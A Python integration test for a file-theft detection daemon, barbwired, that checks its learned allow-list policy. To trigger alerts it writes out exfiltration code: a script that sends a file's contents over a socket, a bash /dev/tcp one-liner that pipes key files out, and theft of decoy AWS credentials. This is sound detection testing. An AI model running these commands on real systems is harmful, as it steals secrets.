#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""barbwirectl learn, with the daemon: the alerts of 20 programs of three days become a drop-in; after the reload the
same programs raise none, and thefts beside them and through them do. A thief who was at work on these days is not
learned. The days are made: each alert was raised by the daemon, and is dated anew."""

import copy
import os
import re
import shutil
import subprocess
import sys
import tempfile

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "../harness"))

import harness
import journal_files
import tap
from ctl import Ctl, environment
from journal_files import BEGIN, DAY, time_of
from net import HOST_V4, HOST_V6, Net
from tap import require, require_equal

DAYS, PLAIN, SCRIPTS = 3, 16, 4
NOBODY = 65534
SCRIPT = """#!/usr/bin/python3
import os, socket, subprocess, sys
path, to, port = sys.argv[1:4]
if len(sys.argv) > 4:
    sys.exit(subprocess.run([sys.argv[4], "blocking", path, to, port]).returncode)
secret = open(path, "rb").read()
socket.create_connection((to, int(port))).sendall(secret[:4096])
"""


class Scene:
    def __init__(self, directory, bw, net, home):
        self.bw, self.net, self.home, self.directory = bw, net, home, directory
        self.policy, self.journal = f"{directory}/policy.d", f"{directory}/week.journal"
        self.output, self.ctl = f"{self.policy}/90-learned.conf", Ctl(f"{directory}/nobody")
        # Not below /tmp: no rule is learned for a program that is there for a while.
        self.programs = tempfile.mkdtemp(prefix="barbwire-learn-", dir="/usr/local/lib")
        os.chmod(self.programs, 0o755)
        self.jobs = [self.install(f"job{n}") for n in range(PLAIN)]
        self.jobs += [self.script(f"job{n}.py") for n in range(SCRIPTS)]
        self.curl, self.once = self.install("curl"), self.install("once")
        self.week = []

    def close(self):
        shutil.rmtree(self.programs)

    def install(self, name):
        path = f"{self.programs}/{name}"
        shutil.copyfile(harness.program("technique-out-tcp"), path)
        os.chmod(path, 0o755)
        return path

    def script(self, name):
        path = f"{self.programs}/{name}"
        with open(path, "w", encoding="ascii") as f:
            f.write(SCRIPT)
        os.chmod(path, 0o755)
        return path

    @staticmethod
    def command(job, path, to=HOST_V4, port=443):
        return [job, *([] if job.endswith(".py") else ["blocking"]), path, to, str(port)]

    def play(self, command, path, **kwargs):
        """Plays an access, and returns its alert."""
        before = len(self.bw.alerts)
        result = self.net.run(command, **kwargs)
        require_equal(result.returncode, 0, f"exit status of {command}\n{result.stderr}")
        return self.bw.wait(lambda: next((a for a in self.bw.alerts[before:] if harness.touches(a, path)), None),
                            harness.ALERT_TIMEOUT, f"the alert of {command}")

    @staticmethod
    def cat(path):
        """cat sends what it reads itself, by a connection that it was started with."""
        return ["bash", "-c", 'exec 3<>"/dev/tcp/$2/443"; cat "$1" >&3', "bash", path, HOST_V4]

    def key(self):
        """Another file on each day: the same one again would be a repeat."""
        path = self.home.key()[0]
        os.chmod(path, 0o644)
        os.chmod(os.path.dirname(path), 0o755)
        return path

    def uid_of(self, job):
        """Some of the programs run as another user."""
        return {"user": NOBODY, "group": NOBODY, "extra_groups": []} if self.jobs.index(job) % 4 == 1 else {}


def watch(s):
    """The week, with its thieves."""
    for day in range(DAYS):
        plays = [(s.command(job, s.key()), s.uid_of(job)) for job in s.jobs]
        plays.append((s.command(s.curl, s.key()), {}))
        plays += [(s.command(s.once, s.key()), {})] if day == 1 else []
        plays.append((s.cat(s.key()), {}))
        for number, (command, user) in enumerate(plays):
            path = next(word for word in command if isinstance(word, bytes))
            alert = s.play(command, path, **user)
            dated = copy.deepcopy(alert)
            dated["time"] = time_of(BEGIN + day * DAY + number)
            s.week.append(dated)
    require(len(s.week) >= 60, f"{len(s.week)} alerts")
    journal_files.write(s.journal, [journal_files.entry(a, os.uname().nodename) for a in s.week])


def learned(s):
    """What is learned, the thieves apart, and --check."""
    command = s.ctl.command("learn", f"--file={s.journal}", f"--policy-dir={harness.DEFAULT_POLICY}",
                            f"--min-days={DAYS}", f"--output={s.output}")
    result = subprocess.run(command, capture_output=True, text=True, timeout=120, check=False, env=environment())
    require_equal(result.returncode, 0, result.stderr)
    with open(s.output, encoding="utf-8") as f:
        text = f.read()
    allowed, _, rest = text.partition("# ---- Not allowed")
    programs = re.findall(r"^(?:Script|Exe)=(?!/usr/bin/python)(\S+)$", allowed, re.MULTILINE)
    require_equal(set(programs), set(s.jobs), text)
    require_equal(len(re.findall(r"^\[Allow ", text, re.MULTILINE)), PLAIN + SCRIPTS, text)
    apart = rest.partition("# ---- No rule should")[0]
    require(f"#Exe={s.curl}\n" in apart and f"#Exe={s.once}\n" in apart and "#Exe=/usr/bin/cat\n" in apart, text)
    result = subprocess.run([harness.BARBWIRED, "--check", f"--policy-dir={harness.DEFAULT_POLICY}",
                             f"--policy-dir={s.policy}"], capture_output=True, text=True, timeout=60, check=False)
    require_equal(result.returncode, 0, result.stderr)
    require("policy reloaded" in s.bw.reload(), "the reload")


def silent(s):
    """The same programs, with the same kinds of files."""
    before = len(s.bw.alerts)
    played = []
    for job in s.jobs:
        path = s.key()
        result = s.net.run(s.command(job, path), **s.uid_of(job))
        require_equal(result.returncode, 0, f"{job}: {result.stderr}")
        played.append(path)
    s.bw.prove_delivered(s.net, s.home)
    noise = [a["summary"] for a in s.bw.alerts[before:] if any(harness.touches(a, path) for path in played)]
    require_equal(noise, [], "alerts of what was learned")


def thieves(s):
    for job in (s.curl, s.once, "bash"):
        key = s.key()
        s.play(s.cat(key) if job == "bash" else s.command(job, key), key)


def beside(s, job, other):
    """Thefts by what is not the program that was learned, or is not only that."""
    user, key = s.uid_of(job), s.key()
    s.play(s.command(other, key), key, **user)
    key = s.key()
    s.play(s.command(job, key), key, **user, env={**os.environ, "LD_PRELOAD": "libutil.so.1"})
    key = s.key()
    os.chmod(job, 0o777)
    s.play(s.command(job, key), key, **user)
    os.chmod(job, 0o755)
    if job.endswith(".py"):
        key = s.key()
        s.play(["/usr/bin/python3", "-c", SCRIPT, key, HOST_V4, "443"], key, **user)
        return 4
    return 3


def through(s, job, other):
    """Thefts by the program itself: of another file, by another port and to another host; by a child of it."""
    user, aws = s.uid_of(job), s.home.decoy(os.path.join(s.home.path, b".aws/credentials"))[0]
    os.chmod(aws, 0o644)
    os.chmod(os.path.dirname(aws), 0o755)
    s.play(s.command(job, aws), aws, **user)
    key = s.key()
    s.play(s.command(job, key, port=444), key, **user)
    key = s.key()
    s.play(s.command(job, key, to=HOST_V6), key, **user)
    if job.endswith(".py"):
        key = s.key()
        s.play([*s.command(job, key), other], key, **user)
        return 4
    return 3


def thefts(s):
    other, script = s.install("other"), s.script("other.py")
    jobs = [*s.jobs[:3], *s.jobs[-2:]]
    n_beside = sum(beside(s, job, script if job.endswith(".py") else other) for job in jobs)
    n_through = sum(through(s, job, other) for job in jobs)
    require(n_beside >= 12 and n_through >= 12, f"{n_beside} thefts beside, {n_through} through")
    # A script that was changed to something else, under the same name, is not a script of root's any more.
    with open(s.jobs[-1], "a", encoding="ascii") as f:
        f.write("# changed\n")
    os.chown(s.jobs[-1], NOBODY, NOBODY)
    key = s.key()
    s.play(s.command(s.jobs[-1], key), key)


def main():
    t = tap.Tap()
    harness.require_host()
    with tempfile.TemporaryDirectory(prefix="barbwire-learn-") as directory, Net() as net, harness.Home() as home:
        os.chmod(directory, 0o755)
        os.mkdir(f"{directory}/policy.d")
        with harness.Barbwired(policy_dirs=(harness.DEFAULT_POLICY, f"{directory}/policy.d")) as bw:
            s = Scene(directory, bw, net, home)
            try:
                t.setup("a week of alerts, with thieves", watch, s)
                t.setup("a drop-in is learned", learned, s)
                t.case("what was learned is silent", silent, s)
                t.case("the thieves of the week", thieves, s)
                t.case("thefts beside what was learned, and through it", thefts, s)
            finally:
                s.close()
    t.done()


if __name__ == "__main__":
    main()
